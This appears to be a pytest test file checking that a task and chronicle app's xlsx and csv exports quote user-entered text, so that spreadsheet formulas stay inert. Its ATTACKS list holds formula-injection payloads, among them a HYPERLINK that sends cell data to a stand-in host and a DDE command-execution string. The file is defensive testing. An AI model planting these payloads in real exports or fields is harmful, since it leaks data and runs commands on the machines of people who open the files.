"""Formula injection: what users typed (a task title, a counterpart unit, a chronicle entry)
comes back from every export as inert text, in .xlsx and .csv, statistics and lists alike."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from reception.models import Task
from tests.conftest import api, in_tenant
from tests.reporting.conftest import STATISTICS

RANGE = "from=2026-05-01&to=2026-06-30"
CHRONICLE = "/api/v1/chronicle/"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")
ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-1+2", "@SUM(A1:A9)", "\t=1", "\r=1"]


def _cells(content: bytes, sheet: str | None = None) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [cell for row in (book[sheet] if sheet else book.active).iter_rows() for cell in row]


def _csv(content: bytes) -> list[str]:
    return [field for line in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for field in line]


@pytest.mark.parametrize("attack", ATTACKS)
def test_statistics_by_counterpart_unit_export_no_formula(hefei_receptions: Any, attack: str) -> None:
    with in_tenant("340100"):
        Task.objects.filter(pk=hefei_receptions["t2"].pk).update(counterpart_unit=attack)
    client = api("340100", "340100-finance")

    cells = _cells(client.get(f"{STATISTICS}?{RANGE}&group_by=counterpart_unit&format=xlsx").content)
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + attack.replace("\r", "\n") in [c.value for c in cells]  # XML reads CR as LF
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(DANGEROUS)]
    assert 2 in [c.value for c in cells]  # the counts are still numbers

    fields = _csv(client.get(f"{STATISTICS}?{RANGE}&group_by=counterpart_unit&format=csv").content)
    assert "'" + attack in fields
    assert not [f for f in fields if f.startswith(DANGEROUS)]


def test_the_detail_of_an_export_job_quotes_titles(
    hefei_receptions: Any, settings: Any, tmp_path: Any, django_capture_on_commit_callbacks: Any
) -> None:
    settings.MEDIA_ROOT = str(tmp_path)
    with in_tenant("340100"):
        Task.objects.filter(pk=hefei_receptions["t1"].pk).update(title="=1+1", counterpart_unit="@A1")
    client = api("340100", "340100-finance")
    for file_format in ("xlsx", "csv"):
        with django_capture_on_commit_callbacks(execute=True):
            job = client.post(
                "/api/v1/statistics/exports/",
                {"from": "2026-05-01", "to": "2026-06-30", "format": file_format},
                format="json",
            ).json()
        content = b"".join(client.get(f"/api/v1/statistics/exports/{job['id']}/download/").streaming_content)
        if file_format == "xlsx":
            detail = _cells(content, "明细")
            assert not [c for c in detail if c.data_type == "f"]
            values = [c.value for c in detail]
            assert {"'=1+1", "'@A1", hefei_receptions["t1"].pk} <= set(values)
        else:
            fields = _csv(content)
            assert {"'=1+1", "'@A1", str(hefei_receptions["t1"].pk)} <= set(fields)
            assert "=1+1" not in fields


def test_the_chronicle_list_exports_no_formula(tree: Any) -> None:
    client = api("340100", "340100-admin")
    created = client.post(
        CHRONICLE, {"date": "2026-01-15", "title": '=HYPERLINK("http://x")', "body": "-2+3"}, format="json"
    )
    assert created.status_code == 201, created.content
    cells = _cells(client.get(f"{CHRONICLE}?year=2026&format=xlsx").content)
    assert not [c for c in cells if c.data_type == "f"]
    assert {'\'=HYPERLINK("http://x")', "'-2+3"} <= {c.value for c in cells}
    fields = _csv(client.get(f"{CHRONICLE}?year=2026&format=csv").content)
    assert {'\'=HYPERLINK("http://x")', "'-2+3", "2026-01-15"} <= set(fields)
